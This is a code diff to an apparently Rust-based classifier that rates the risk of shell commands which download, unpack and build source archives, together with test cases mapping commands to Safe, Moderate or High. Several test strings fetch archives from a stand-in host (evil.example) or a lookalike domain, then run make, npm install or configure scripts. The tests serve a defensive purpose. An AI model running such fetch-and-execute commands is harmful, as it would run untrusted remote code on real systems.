@@ -103,13 +103,17 @@ impl Machine<'_> {
         let Some(page) = page else { return };
         let into = call.args.values("-C").chain(call.args.values("-d")).last().map_or(".", |item| item.text);
         let path = paths::locate_path(into, &self.state.cwd, self.ctx);
-        self.files.push((format!("{}/", path.trim_end_matches('/')), page.trim_end().to_owned()));
         // `$(curl https://…)`
         let shown = self.unknowns.show(page.trim_end());
         let url = shown.split_whitespace().last().unwrap_or_default().trim_end_matches(')');
-        let known = known::is_forge(known::host_of(url)) || publishers::is_publisher(url);
-        if (!known || !url.starts_with("https://")) && self.strange.len() < FOLDERS {
-            self.strange.push(path.clone());
+        if publishers::is_release_of_sources(url) {
+            // As a clone of it would be.
+            self.released(&path);
+        } else {
+            self.files.push((format!("{}/", path.trim_end_matches('/')), page.trim_end().to_owned()));
+            if self.strange.len() < FOLDERS {
+                self.strange.push(path.clone());
+            }
         }
         if self.cloned.len() < FOLDERS {
             self.cloned.push(path);
@@ -290,6 +294,15 @@ mod tests {
                 (Moderate, "curl -L https://evil.example/x.tar.gz | tar xz && cd x && make"),
                 (Moderate, "wget -qO- https://evil.example/x.tgz | tar xz; cd x; npm install"),
                 (Safe, "curl -L https://evil.example/x.tar.gz | tar xz && ls x"),
+                (
+                    Safe,
+                    "wget https://ftp.gnu.org/gnu/x/x-2.tar.gz && tar xzf x-2.tar.gz && cd x-2 && ./configure && make",
+                ),
+                (Safe, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && make -C x-1"),
+                (Moderate, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && ./x-1/install.sh"),
+                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && sudo ./x-1/install.sh"),
+                (High, "curl -L http://ftp.gnu.org/x.tar.gz | tar xz && ./x-1/configure"),
+                (High, "curl -L https://ftp.gnu.org.evil.example/x.tar.gz | tar xz && ./x-1/configure"),
             ],
         );
     }
